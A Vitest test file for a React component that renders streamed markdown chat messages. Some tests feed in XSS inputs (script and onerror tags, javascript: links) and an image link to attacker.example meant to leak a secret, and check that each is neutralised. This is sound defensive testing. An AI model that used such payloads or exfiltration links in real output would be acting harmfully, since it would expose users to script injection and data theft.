import { act, cleanup, render, screen } from '@testing-library/react';
import type { Token } from 'marked';
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { expectAccessible } from '../../../test/support/expect-accessible.js';
import { renderBlockToken } from '../markdown/markdown-blocks.js';
import { advanceBlockStream, markedLexer, type BlockStream } from '../../text/block-stream.js';
import { longAnswer, tokenize } from '../../../test/support/long-answer.fixture.js';
import { MessageText } from './message-text.js';
import { preloadLazyParts } from '../../../test/support/preload-lazy-parts.js';

vi.mock('../markdown/markdown-blocks.js', async (importOriginal) => {
  const actual = await importOriginal<typeof import('../markdown/markdown-blocks.js')>();
  return { ...actual, renderBlockToken: vi.fn(actual.renderBlockToken) };
});

vi.mock('../../text/block-stream.js', async (importOriginal) => {
  const actual = await importOriginal<typeof import('../../text/block-stream.js')>();
  return { ...actual, advanceBlockStream: vi.fn(actual.advanceBlockStream) };
});

beforeAll(preloadLazyParts);

afterEach(() => {
  cleanup();
  vi.clearAllMocks();
  vi.restoreAllMocks();
});

describe('MessageText', () => {
  it('renders markdown blocks and inline marks as elements', () => {
    const text = [
      '# Title',
      '',
      'Some **bold**, *em*, `code` and ~~gone~~ &amp; more.',
      '',
      '- one',
      '- two',
      '',
      '1. first',
      '',
      '> quoted',
      '',
      '```ts',
      'const x = 1 < 2;',
      '```',
      '',
      '| a | b |',
      '|---|---|',
      '| 1 | 2 |',
      '',
      '---',
    ].join('\n');
    const { container } = render(<MessageText text={text} />);
    expect(screen.getByRole('heading', { level: 1, name: 'Title' })).toBeTruthy();
    expect(container.querySelector('strong')?.textContent).toBe('bold');
    expect(container.querySelector('em')?.textContent).toBe('em');
    expect(container.querySelector('del')?.textContent).toBe('gone');
    expect(container.querySelector('p code')?.textContent).toBe('code');
    expect(container.textContent).toContain('& more.');
    expect(screen.getAllByRole('listitem').map((item) => item.textContent)).toEqual(['one', 'two', 'first']);
    expect(container.querySelector('blockquote')?.textContent).toBe('quoted');
    const fence = container.querySelector('pre > code');
    expect(fence?.className).toContain('language-ts');
    expect(fence?.textContent).toBe('const x = 1 < 2;');
    expect(screen.getByRole('table')).toBeTruthy();
    expect(screen.getAllByRole('columnheader').map((cell) => cell.textContent)).toEqual(['a', 'b']);
    expect(screen.getAllByRole('cell').map((cell) => cell.textContent)).toEqual(['1', '2']);
    expect(container.querySelector('hr')).toBeTruthy();
  });

  it('shows raw HTML as text and never creates its elements', () => {
    const text = 'Hi <img src=x onerror="alert(1)"> there\n\n<script>alert(2)</script>\n\n<b>bold?</b>';
    const { container } = render(<MessageText text={text} />);
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('script')).toBeNull();
    expect(container.querySelector('b')).toBeNull();
    expect(container.textContent).toContain('<img src=x onerror="alert(1)">');
    expect(container.textContent).toContain('<script>alert(2)</script>');
    expect(container.textContent).toContain('<b>bold?</b>');
  });

  it('keeps safe links, opening in a new tab, and drops javascript: and relative links', () => {
    const text = '[site](https://example.com/a) [mail](mailto:a@b.c) [bad](javascript:alert(1)) [rel](/local) [data](data:text/html,hi)';
    const { container } = render(<MessageText text={text} />);
    const links = screen.getAllByRole('link');
    expect(links.map((link) => link.getAttribute('href'))).toEqual(['https://example.com/a', 'mailto:a@b.c']);
    for (const link of links) {
      expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
      expect(link.getAttribute('referrerpolicy')).toBe('no-referrer');
      expect(link.getAttribute('target')).toBe('_blank');
    }
    expect(container.innerHTML).not.toContain('javascript:');
    expect(container.textContent).toContain('bad');
  });

  it('drops javascript: links hidden by case and whitespace', () => {
    const { container } = render(<MessageText text={'[x](JaVaScRiPt:alert(1)) <javascript:alert(2)>'} />);
    expect(container.querySelector('a')).toBeNull();
  });

  it('loads no image from a host the app did not allow: a placeholder shows its alt text and host', () => {
    const { container } = render(<MessageText text={'![chart](https://attacker.example/leak?d=secret) ![dot](data:image/png;base64,AAAA)'} />);
    const images = container.querySelectorAll('img');
    expect(images).toHaveLength(1);
    expect(images[0]?.getAttribute('src')).toBe('data:image/png;base64,AAAA');
    const placeholder = container.querySelector('.platos-image-placeholder');
    expect(placeholder?.getAttribute('data-host')).toBe('attacker.example');
    expect(placeholder?.textContent).toContain('chart');
    expect(container.innerHTML).not.toContain('attacker.example/leak');
  });

  it('forwards className and other props to its element', () => {
    const { container } = render(<MessageText text="hi" className="extra" id="text-1" />);
    const root = container.firstElementChild;
    expect(root?.className).toBe('platos-markdown extra');
    expect(root?.id).toBe('text-1');
  });

  it('streams a 200-block answer token by token: completed blocks render once, the lexer sees about 2x the text', () => {
    const lexedCharacters = { count: 0 };
    const blocks = markedLexer.blocks;
    const inline = markedLexer.inline;
    vi.spyOn(markedLexer, 'blocks').mockImplementation((source, links) => {
      lexedCharacters.count += source.length;
      return blocks(source, links);
    });
    vi.spyOn(markedLexer, 'inline').mockImplementation((source, links) => {
      lexedCharacters.count += source.length;
      return inline(source, links);
    });
    const tokens = tokenize(longAnswer);
    let text = '';
    const { container, rerender } = render(<MessageText text="" streaming />);
    for (const token of tokens) {
      text += token;
      rerender(<MessageText text={text} streaming />);
    }
    expect(container.firstElementChild?.getAttribute('data-state')).toBe('streaming');

    const splits = vi.mocked(advanceBlockStream).mock.results.map((result) => result.value as BlockStream);
    const completed = splits[splits.length - 1]!.blocks.filter((block) => block.token.type !== 'space');
    expect(completed.length).toBeGreaterThanOrEqual(199);
    const renders = new Map<Token, number>();
    for (const [token] of vi.mocked(renderBlockToken).mock.calls) renders.set(token, (renders.get(token) ?? 0) + 1);
    expect(completed.filter((block) => renders.get(block.token) !== 1)).toEqual([]);
    // One render of the open tail per token plus one per completed block, not every block on every token.
    expect(vi.mocked(renderBlockToken).mock.calls.length).toBeLessThan(tokens.length + 2 * 200 + 50);
    expect(lexedCharacters.count / longAnswer.length).toBeLessThanOrEqual(2.2);

    rerender(<MessageText text={text} streaming={false} />);
    expect(container.firstElementChild?.getAttribute('data-state')).toBe('complete');
    // Ids from useId (a link's host hint) count renders, so they differ between the two trees.
    const withoutIds = (html: string) => html.replace(/(id|aria-describedby)="[^"]*"/g, '$1=""');
    const streamed = withoutIds(container.innerHTML);
    cleanup();
    const { container: whole } = render(<MessageText text={longAnswer} />);
    expect(streamed).toBe(withoutIds(whole.innerHTML));
  }, 120_000);

  it('shows unfinished syntax as it will look: no raw markers, half links as text, tables once the separator row is there', () => {
    const { container, rerender } = render(<MessageText text="Some **bol" streaming />);
    expect(container.querySelector('strong')?.textContent).toBe('bol');
    expect(container.textContent).toBe('Some bol');

    rerender(<MessageText text="Some **bold** and *" streaming />);
    expect(container.textContent).toBe('Some bold and ');

    rerender(<MessageText text="Some **bold** and *it" streaming />);
    expect(container.querySelector('em')?.textContent).toBe('it');

    rerender(<MessageText text="Read [the gui" streaming />);
    expect(container.textContent).toBe('Read the gui');
    expect(container.querySelector('a')).toBeNull();
    rerender(<MessageText text="Read [the guide](https://exa" streaming />);
    expect(container.textContent).toBe('Read the guide');
    rerender(<MessageText text="Read [the guide](https://example.com)" streaming />);
    expect(screen.getByRole('link', { name: 'the guide' }).getAttribute('href')).toBe('https://example.com/');

    rerender(<MessageText text={'Intro\n\n| a | b |'} streaming />);
    expect(container.textContent).toBe('Intro');
    rerender(<MessageText text={'Intro\n\n| a | b |\n|---|--'} streaming />);
    expect(container.querySelector('table')).toBeNull();
    expect(container.textContent).not.toContain('|');
    rerender(<MessageText text={'Intro\n\n| a | b |\n|---|---|\n| 1'} streaming />);
    expect(screen.getAllByRole('columnheader').map((cell) => cell.textContent)).toEqual(['a', 'b']);
    expect(screen.getAllByRole('cell').map((cell) => cell.textContent)).toEqual(['1', '']);

    rerender(<MessageText text={'List:\n\n- one\n- '} streaming />);
    expect(screen.getAllByRole('listitem').map((item) => item.textContent)).toEqual(['one']);
  });

  it('shows an open code fence as a code block in progress, plain until it is complete', () => {
    const { container, rerender } = render(<MessageText text={'Code:\n\n```ts\nconst a = 1;\nconst b'} streaming />);
    const block = container.querySelector('.platos-code-block');
    expect(block?.getAttribute('data-state')).toBe('streaming');
    expect(block?.getAttribute('data-language')).toBe('ts');
    expect(container.querySelector('pre code')?.textContent).toBe('const a = 1;\nconst b');
    expect(container.textContent).not.toContain('```');

    rerender(<MessageText text={'Code:\n\n```ts\nconst a = 1;\nconst b = 2;\n``'} streaming />);
    expect(container.querySelector('pre code')?.textContent).toBe('const a = 1;\nconst b = 2;');
    rerender(<MessageText text={'Code:\n\n```ts\nconst a = 1;\nconst b = 2;\n```\n'} streaming />);
    expect(container.querySelector('.platos-code-block')?.getAttribute('data-state')).toBe('complete');
  });

  it('shows unfinished syntax as written once the text is complete', () => {
    const { container } = render(<MessageText text="Costs 2 * 3 and **not closed" streaming={false} />);
    expect(container.querySelector('strong')).toBeNull();
    expect(container.textContent).toBe('Costs 2 * 3 and **not closed');
  });

  it('has no axe violations with a table, code, lists and links', async () => {
    const { container } = render(<MessageText text={longAnswer.split('\n\n').slice(0, 9).join('\n\n')} />);
    await expectAccessible(container);
  });

  it('without a streaming prop: text given whole is final, text that grows is streaming until it rests', () => {
    vi.useFakeTimers();
    try {
      const { container, rerender } = render(<MessageText text="Costs 2 and **open" />);
      const root = container.firstElementChild!;
      expect(root.getAttribute('data-state')).toBe('complete');
      expect(container.textContent).toBe('Costs 2 and **open');

      rerender(<MessageText text="Costs 2 and **opened" />);
      expect(root.getAttribute('data-state')).toBe('streaming');
      expect(container.querySelector('strong')?.textContent).toBe('opened');
      act(() => {
        vi.advanceTimersByTime(200);
      });
      expect(root.getAttribute('data-state')).toBe('complete');
      // A pause is not the end: the open `**` stays settled rather than flashing as written.
      expect(container.querySelector('strong')?.textContent).toBe('opened');
    } finally {
      vi.useRealTimers();
    }
  });
});
